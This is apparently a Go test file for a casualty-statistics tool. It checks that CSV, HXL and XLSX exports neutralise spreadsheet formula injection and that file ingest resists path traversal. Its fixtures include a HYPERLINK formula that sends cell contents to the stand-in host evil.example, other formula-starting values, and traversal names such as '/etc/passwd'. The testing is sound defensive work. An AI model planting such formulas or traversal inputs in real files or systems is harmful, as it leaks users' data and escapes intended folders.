package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"math"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostileCSV is a file of figures whose publication names, sources and
// notes are spreadsheet formulas, as a malicious or careless sender could
// write them. Killed goes 170 → 164 from February to March 2025, so the
// outputs hold negative numbers (changes) that must stay numbers.
const hostileCSV = `month,area,metric,value,published,publication,source,note
2025-01,UA,killed,150,2025-02-10,@SUM(1),"=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")",+1
2025-01,UA,injured,700,2025-02-10,@SUM(1),"=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")",-text
2025-02,UA,killed,170,2025-03-13,+1,-text,=1+1
2025-02,UA,injured,600,2025-03-13,+1,-text,-5
2025-03,UA,killed,164,2025-04-09,-text,@SUM(1),+1
2025-03,UA,injured,590,2025-04-09,-text,@SUM(1),-5
`

// hostile are the text fields of hostileCSV as the sender wrote them. A
// text field "-5" is text, and is neutralised like any other.
var hostile = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click me")`, "@SUM(1)", "+1", "-text", "=1+1", "-5"}

// formulaStart reports whether a spreadsheet would read s as a formula.
func formulaStart(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// hostileDir writes hostileCSV into a fresh folder, makes it the working
// folder and returns it.
func hostileDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "in.csv"), []byte(hostileCSV), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Chdir(dir)
	return dir
}

func safeRun(t *testing.T, args ...string) string {
	t.Helper()
	var out, errOut bytes.Buffer
	if err := run(context.Background(), args, &out, &errOut); err != nil {
		t.Fatalf("casualty %s: %v\n%s", strings.Join(args, " "), err, errOut.String())
	}
	return out.String()
}

// checkTidyCSV checks a tidy CSV (or HXL) written by casualty: counts are
// plain digits, no text field would run as a formula, and every hostile
// text is there, neutralised with a leading apostrophe.
func checkTidyCSV(t *testing.T, what, text string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	head := recs[0]
	seen := map[string]bool{}
	rows := 0
	for _, rec := range recs[1:] {
		if strings.HasPrefix(rec[0], "#") {
			continue // the HXL hashtag row
		}
		rows++
		for i, f := range rec {
			seen[f] = true
			if head[i] == "value" {
				if _, err := strconv.ParseUint(f, 10, 63); err != nil {
					t.Errorf("%s: value %q is not a plain whole number", what, f)
				}
				continue
			}
			if formulaStart(f) {
				t.Errorf("%s: column %s holds %q, which a spreadsheet would run as a formula", what, head[i], f)
			}
		}
	}
	if rows != 6 {
		t.Errorf("%s: %d rows of figures, want the 6 of the input", what, rows)
	}
	for _, h := range hostile {
		if !seen["'"+h] {
			t.Errorf("%s: no field %q (the input's %q, neutralised)", what, "'"+h, h)
		}
	}
}

// TestFormulaNeutralisedCSV: `casualty data` as CSV and as HXL, and the
// data.csv of a report folder.
func TestFormulaNeutralisedCSV(t *testing.T) {
	hostileDir(t)
	checkTidyCSV(t, "data --format csv", safeRun(t, "data", "--data", "in.csv", "--all-vintages"))
	checkTidyCSV(t, "data --format hxl", safeRun(t, "data", "--data", "in.csv", "--all-vintages", "--format", "hxl"))
	safeRun(t, "report", "--data", "in.csv", "--out", "out", "--formats", "csv")
	b, err := os.ReadFile(filepath.Join("out", "data.csv"))
	if err != nil {
		t.Fatal(err)
	}
	checkTidyCSV(t, "report data.csv", string(b))
}

// TestJSONKeepsText: JSON is for programs, not spreadsheets, so text goes
// out exactly as it came in.
func TestJSONKeepsText(t *testing.T) {
	hostileDir(t)
	var figs []struct {
		Publication, Source, Note string
		Value                     int64
	}
	if err := json.Unmarshal([]byte(safeRun(t, "data", "--data", "in.csv", "--all-vintages", "--format", "json")), &figs); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, f := range figs {
		seen[f.Publication], seen[f.Source], seen[f.Note] = true, true, true
	}
	for _, h := range hostile {
		if !seen[h] {
			t.Errorf("JSON lost the text %q as written", h)
		}
	}
}

// TestNegativeNumbersStayNumbers: a change is negative and is a number,
// never neutralised: in the trend CSV, the change from February (170) to
// March (164) is (164-170)/170 = -3.5294117647058822 %.
func TestNegativeNumbersStayNumbers(t *testing.T) {
	hostileDir(t)
	recs, err := csv.NewReader(strings.NewReader(safeRun(t, "trend", "--data", "in.csv", "--metric", "killed", "--format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	var march []string
	for _, r := range recs[1:] {
		if r[col["month"]] == "2025-03" {
			march = r
		}
	}
	if march == nil {
		t.Fatal("no row for 2025-03 in the trend CSV")
	}
	if got := march[col["change_pct"]]; got != "-3.5294117647058822" {
		t.Errorf("change_pct for 2025-03 = %q, want -3.5294117647058822 as a plain number", got)
	}
	if got := march[col["publication"]]; got != "'-text" {
		t.Errorf("publication for 2025-03 = %q, want '-text (neutralised text)", got)
	}
}

// TestFormulaNeutralisedXLSX reads back the workbook of a report made from
// hostile text: no cell holds a formula built from input text, no text
// cell starts like a formula, every hostile text is there neutralised, and
// negative changes are numeric cells.
func TestFormulaNeutralisedXLSX(t *testing.T) {
	hostileDir(t)
	safeRun(t, "report", "--data", "in.csv", "--out", "out", "--formats", "xlsx")
	f, err := excelize.OpenFile(filepath.Join("out", "report.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	seen := map[string]bool{}
	negative := false
	for _, sh := range f.GetSheetList() {
		rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fo, _ := f.GetCellFormula(sh, ref); fo != "" {
					for _, h := range []string{"evil.example", "SUM(1)", "1+1", "text"} {
						if strings.Contains(fo, h) {
							t.Errorf("%s!%s holds the formula %q, built from input text", sh, ref, fo)
						}
					}
					// A live change holds its value too.
					if x, err := strconv.ParseFloat(v, 64); err == nil && math.Abs(x-(-6.0/170)) < 1e-12 {
						negative = true
					}
					continue
				}
				typ, _ := f.GetCellType(sh, ref)
				switch typ {
				case excelize.CellTypeSharedString, excelize.CellTypeInlineString:
					seen[v] = true
					if formulaStart(v) {
						t.Errorf("%s!%s holds the text %q, which starts like a formula", sh, ref, v)
					}
				case excelize.CellTypeUnset, excelize.CellTypeNumber:
					x, err := strconv.ParseFloat(v, 64)
					if v != "" && err != nil {
						t.Errorf("%s!%s is a number cell holding %q", sh, ref, v)
					}
					// -6/170: the change of killed from February to March.
					if math.Abs(x-(-6.0/170)) < 1e-12 {
						negative = true
					}
				}
			}
		}
	}
	// Each hostile text reached the workbook (notes of one month are
	// joined with " | ", so one may sit inside a cell), and a source cell
	// holds the formula as neutralised text.
	for _, h := range hostile {
		found := false
		for v := range seen {
			found = found || strings.Contains(v, h)
		}
		if !found {
			t.Errorf("no text cell holds %q: the test does not see where input text lands", h)
		}
	}
	if h := "'" + hostile[0]; !seen[h] {
		t.Errorf("no text cell holds %q (the source, neutralised)", h)
	}
	if !negative {
		t.Errorf("no number cell holds -6/170 = -0.0353 (the change of killed in March 2025)")
	}
}

// TestStorePathsStayInside: a publication's name becomes part of a file
// name in a store; names that try to climb out of the folder or name a
// device must land inside its publications folder, and nowhere else.
func TestStorePathsStayInside(t *testing.T) {
	names := []string{"../../../../escape", `..\..\escape`, "/etc/passwd", "C:\\Windows\\evil", "NUL", "..", "a/../../b",
		strings.Repeat("../", 200) + "deep", "Оновлення"}
	root := t.TempDir()
	t.Chdir(root)
	safeRun(t, "init", "--store", "store")
	for i, n := range names {
		in := filepath.Join(root, "in"+strconv.Itoa(i)+".csv")
		var b bytes.Buffer
		cw := csv.NewWriter(&b)
		cw.Write([]string{"month", "area", "metric", "value", "published", "publication"})
		// Each publication a day apart, so each is a new file.
		cw.Write([]string{"2025-03", "UA", "killed", strconv.Itoa(164 + i), "2025-04-" + strconv.Itoa(10+i), n})
		cw.Flush()
		if err := os.WriteFile(in, b.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
		before := walk(t, root)
		safeRun(t, "ingest", "--store", "store", in)
		for p := range walk(t, root) {
			if before[p] {
				continue
			}
			rel, _ := filepath.Rel(filepath.Join(root, "store"), p)
			if strings.HasPrefix(rel, "..") {
				t.Errorf("publication %q: ingest wrote %s, outside the store", n, p)
			}
			if dir := filepath.Dir(rel); dir != "publications" && dir != "." {
				t.Errorf("publication %q: ingest wrote %s, outside the store's publications folder", n, rel)
			}
		}
	}
}

func walk(t *testing.T, root string) map[string]bool {
	t.Helper()
	out := map[string]bool{}
	filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out[p] = true
		}
		return nil
	})
	return out
}

// TestIntegrationCSVInLibreOffice opens casualty's CSV outputs of hostile
// text in LibreOffice, the way a reader double-clicks them, and checks
// that no cell became a formula. A control file with the same text not
// neutralised must come out with formulas, which shows that LibreOffice
// does evaluate formulas in CSV and so that the check can fail.
func TestIntegrationCSVInLibreOffice(t *testing.T) {
	if os.Getenv("CASUALTY_INTEGRATION") != "1" {
		t.Skip("set CASUALTY_INTEGRATION=1 to open the outputs in LibreOffice")
	}
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Fatalf("soffice (LibreOffice) is not installed: %v", err)
	}
	dir := hostileDir(t)
	files := map[string]string{
		"data.csv":    safeRun(t, "data", "--data", "in.csv", "--all-vintages"),
		"hxl.csv":     safeRun(t, "data", "--data", "in.csv", "--all-vintages", "--format", "hxl"),
		"trend.csv":   safeRun(t, "trend", "--data", "in.csv", "--metric", "killed", "--format", "csv"),
		"control.csv": "text\n=1+1\n\"=HYPERLINK(\"\"http://evil.example/\"\",\"\"click\"\")\"\n",
	}
	args := []string{"--headless", "-env:UserInstallation=file://" + filepath.Join(dir, "lo-profile"), "--convert-to", "xlsx", "--outdir", filepath.Join(dir, "xlsx")}
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
		args = append(args, filepath.Join(dir, name))
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	if out, err := exec.CommandContext(ctx, soffice, args...).CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	for name := range files {
		formulas, texts := sheetCells(t, filepath.Join(dir, "xlsx", strings.TrimSuffix(name, ".csv")+".xlsx"))
		if name == "control.csv" {
			if len(formulas) < 2 {
				t.Fatalf("LibreOffice made %d formulas of the control file, want 2: the test cannot tell a neutralised file from one that is not", len(formulas))
			}
			continue
		}
		for _, f := range formulas {
			t.Errorf("%s: LibreOffice made a formula: %s", name, f)
		}
		if name != "trend.csv" && !texts["'"+hostile[0]] {
			t.Errorf("%s: no text cell holds the neutralised source %q", name, "'"+hostile[0])
		}
	}
}

// sheetCells lists the formulas and the set of text values of the first
// sheet of a workbook.
func sheetCells(t *testing.T, path string) (formulas []string, texts map[string]bool) {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sh := f.GetSheetList()[0]
	rows, err := f.GetRows(sh, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	texts = map[string]bool{}
	for r, row := range rows {
		for c, v := range row {
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fo, _ := f.GetCellFormula(sh, ref); fo != "" {
				formulas = append(formulas, ref+" ="+fo)
			}
			texts[v] = true
		}
	}
	return formulas, texts
}
